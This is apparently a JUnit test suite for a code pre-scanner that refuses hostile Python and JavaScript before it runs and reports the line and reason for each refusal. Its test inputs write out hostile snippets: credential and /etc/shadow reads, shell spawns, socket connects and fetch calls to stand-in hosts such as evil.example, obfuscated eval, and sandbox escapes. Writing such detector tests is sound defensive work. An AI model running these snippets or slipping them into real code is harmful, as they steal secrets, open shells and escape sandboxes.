package io.mcpsf.run.code;

import static org.assertj.core.api.Assertions.assertThat;

import io.mcpsf.exec.CodeLanguage;
import io.mcpsf.exec.ScanFinding;
import io.mcpsf.inspect.code.parser.BuiltParser;
import io.mcpsf.model.Severity;
import io.mcpsf.policy.MergedPolicy;
import io.mcpsf.policy.Policy;
import io.mcpsf.policy.PolicyLayer;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

/** What is refused before it runs, with line and reason, and what is not. */
final class PreScanTest {

    private static final Path ORDINARY = Path.of("src/test/resources/exec/ordinary");
    private static PreScan scan;

    @BeforeAll
    static void start() {
        scan = new PreScan(BuiltParser::program);
    }

    @AfterAll
    static void stop() {
        scan.close();
    }

    @TestFactory
    Stream<DynamicTest> ordinaryCodeIsNotRefused() throws IOException {
        try (Stream<Path> files = Files.list(ORDINARY)) {
            List<Path> all = files.sorted().toList();
            assertThat(all).hasSizeGreaterThanOrEqualTo(30);
            return all.stream()
                    .map(
                            file ->
                                    DynamicTest.dynamicTest(
                                            file.getFileName().toString(),
                                            () -> assertThat(refused(file)).isEmpty()));
        }
    }

    private static List<ScanFinding> refused(Path file) throws Exception {
        CodeLanguage language = CodeLanguage.of(file.getFileName().toString()).orElseThrow();
        return scan.look(language, Files.readString(file), policy("")).stream()
                .filter(ScanFinding::refuses)
                .toList();
    }

    @Test
    void hostilePythonIsRefusedByTheNameOfItsAct() throws Exception {
        refuses("dynamic-code", "eval('1+1')");
        refuses("dynamic-code", "exec(open('data/x').read())");
        refuses("dynamic-code", "e = eval\ne('2')");
        refuses("dynamic-code", "import builtins\nbuiltins.exec('x')");
        refuses("dynamic-code", "list(map(eval, ['1', '2']))");
        refuses("dynamic-code", "getattr(__builtins__, 'eval')('1')");
        refuses("process", "import subprocess as s\ns.run(['ls'])");
        refuses("process", "from os import system as run\nrun('ls')");
        refuses("process", "__import__('os').popen('id')");
        refuses("process", "import importlib\nimportlib.import_module('subprocess').call('ls')");
        refuses("process", "import pty\npty.spawn('/bin/sh')");
        refuses("native", "import ctypes\nctypes.CDLL(None).mount(b'', b'', b'', 0, 0)");
        refuses("internals", "().__class__.__bases__[0].__subclasses__()");
        refuses("internals", "(lambda: 0).__globals__");
        refuses("file", "open('/etc/passwd').read()");
        refuses("file", "open('../../etc/shadow')");
        refuses("file", "p = '/root/.ssh/id_rsa'\nopen(p)");
        refuses("file", "import os\nopen(os.path.expanduser('x')); open('~/.aws/credentials')");
        refuses("file", "from pathlib import Path\nPath('/var/log/syslog').read_text()");
        refuses("file", "open('/servers/x.py', 'w')");
        refuses("file", "import shutil\nshutil.copy('data/x', '/etc/cron.d/x')");
        refuses("file", "who = 'me'\nopen(f'/home/{who}/../../etc/passwd')");
        refuses("network", "import socket\ns = socket.socket()\ns.connect(('192.0.2.1', 4444))");
        refuses("network", "import urllib.request as u\nu.urlopen('https://evil.example/x')");
        refuses("network", "import pandas as pd\npd.read_csv('https://evil.example/x.csv')");
        refuses("network", "import requests\nrequests.post(url, data=open('data/x'))");
        refuses("template", "from jinja2 import Template\nTemplate(input()).render()");
        refuses("template", "import sys, jinja2\nt = sys.argv[1]\njinja2.Template(t).render()");
        refuses("obfuscation", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))");
        refuses("obfuscation", "getattr(os, 'sys' + 'tem')('id')");
        refuses("obfuscation", "x = 1 # \u202e }sdrawkcab\n");
    }

    @Test
    void hostileJavaScriptIsRefusedByTheNameOfItsAct() throws Exception {
        refusesNode("dynamic-code", "eval('1')");
        refusesNode("dynamic-code", "new Function('return 1')()");
        refusesNode("dynamic-code", "globalThis['eval']('1')");
        refusesNode("dynamic-code", "require('vm').runInNewContext('1')");
        refusesNode("dynamic-code", "setTimeout('alert(1)', 1)");
        refusesNode("dynamic-code", "['1'].map(eval)");
        refusesNode("process", "require('child_process').execSync('id')");
        refusesNode("process", "import { spawn as s } from 'node:child_process'; s('sh')");
        refusesNode("process", "const cp = await import('child_process'); cp.exec('id')");
        refusesNode("native", "process.binding('spawn_sync')");
        refusesNode("internals", "this.constructor.constructor('return process')()");
        refusesNode("internals", "process.mainModule.require('fs')");
        refusesNode("file", "require('fs').readFileSync('/etc/passwd')");
        refusesNode("file", "const p = '/root/.npmrc'; require('fs').readFileSync(p)");
        refusesNode("file", "import fs from 'fs/promises'; await fs.writeFile('/etc/x', '')");
        refusesNode("file", "require('fs').readFileSync('../../../proc/1/environ')");
        refusesNode("network", "fetch('https://evil.example/' + document)");
        refusesNode("network", "require('net').connect(4444, '192.0.2.1')");
        refusesNode("network", "require('dns').lookup('a.evil.example', () => {})");
        refusesNode("network", "import axios from 'axios'; axios.post(url, data)");
        refusesNode("template", "require('ejs').render(process.argv[2])");
        refusesNode("obfuscation", "eval(Buffer.from('MQ==', 'base64').toString())");
        refusesNode("obfuscation", "require('child_' + 'process')");
    }

    @Test
    void theLineAndTheReasonAreTold() throws Exception {
        assertThat(look(CodeLanguage.PYTHON, "import os\n\nos.system('ls')\n", ""))
                .containsExactly(
                        new ScanFinding(
                                Severity.HIGH, "process", 3, "os.system starts a program", false));
        assertThat(PreScan.refusal(look(CodeLanguage.PYTHON, "open('/etc/shadow')", "")))
                .isEqualTo(
                        "refused: line 1: open reads /etc/shadow, which the policy does not name");
    }

    @Test
    void aPolicyAllowsAnActByNameAndNoOther() throws Exception {
        String code = "import os\nos.system('ls')\neval('1')";

        assertThat(look(CodeLanguage.PYTHON, code, "code: {allow: [process]}"))
                .filteredOn(ScanFinding::refuses)
                .extracting(ScanFinding::rule)
                .containsExactly("dynamic-code");
        assertThat(look(CodeLanguage.PYTHON, code, "code: {allow: [process, dynamic-code]}"))
                .hasSize(2)
                .noneMatch(ScanFinding::refuses);
    }

    @Test
    void filesAndHostsOfThePolicyArePartOfIt() throws Exception {
        String reading = "files: {read: [/srv/data]}";
        assertThat(look(CodeLanguage.PYTHON, "open('/srv/data/x')", reading)).isEmpty();
        assertThat(look(CodeLanguage.PYTHON, "open('/srv/data/x', 'w')", reading)).isNotEmpty();
        assertThat(look(CodeLanguage.PYTHON, "open('/srv/database')", reading)).isNotEmpty();

        String network = "network: {allow: [{host: api.example}]}";
        assertThat(look(CodeLanguage.NODE, "fetch(`https://api.example/${x}`)", network)).isEmpty();
        assertThat(look(CodeLanguage.NODE, "fetch(anything)", network)).isEmpty();
        assertThat(
                        look(
                                CodeLanguage.PYTHON,
                                "import httpx\nhttpx.get('https://%s/x' % host)",
                                network))
                .as("a host that is put in later")
                .isEmpty();
        assertThat(look(CodeLanguage.NODE, "fetch('https://api.example.evil.example/')", network))
                .extracting(ScanFinding::rule)
                .containsExactly("network");
        assertThat(look(CodeLanguage.NODE, "fetch('http://api.example/')", network))
                .extracting(ScanFinding::rule, ScanFinding::severity)
                .contains(org.assertj.core.groups.Tuple.tuple("plain-http", Severity.MEDIUM));
    }

    @Test
    void wordsInCommentsAndTextsAreNothing() throws Exception {
        String python =
                """
                # eval('1') and os.system
                print('exec(x); open("/etc/shadow")')
                'subprocess.run(["sh"])'
                """;
        String node =
                """
                // eval('1')
                /* require('child_process') */
                const s = 'fetch(1)'; `eval(${s})`
                """;

        assertThat(look(CodeLanguage.PYTHON, python, "")).isEmpty();
        assertThat(look(CodeLanguage.NODE, node, "")).isEmpty();
    }

    private static void refuses(String rule, String code) throws Exception {
        assertThat(look(CodeLanguage.PYTHON, code, ""))
                .as(code)
                .filteredOn(ScanFinding::refuses)
                .extracting(ScanFinding::rule)
                .contains(rule);
    }

    private static void refusesNode(String rule, String code) throws Exception {
        assertThat(look(CodeLanguage.NODE, code, ""))
                .as(code)
                .filteredOn(ScanFinding::refuses)
                .extracting(ScanFinding::rule)
                .contains(rule);
    }

    private static List<ScanFinding> look(CodeLanguage language, String code, String yaml)
            throws Exception {
        return scan.look(language, code, policy(yaml));
    }

    private static Policy policy(String yaml) {
        var layers = new ArrayList<>(List.of(PolicyLayer.execution()));
        if (!yaml.isEmpty()) {
            layers.add(PolicyLayer.read("test", yaml.getBytes(StandardCharsets.UTF_8)));
        }
        return MergedPolicy.of(layers).policy();
    }
}
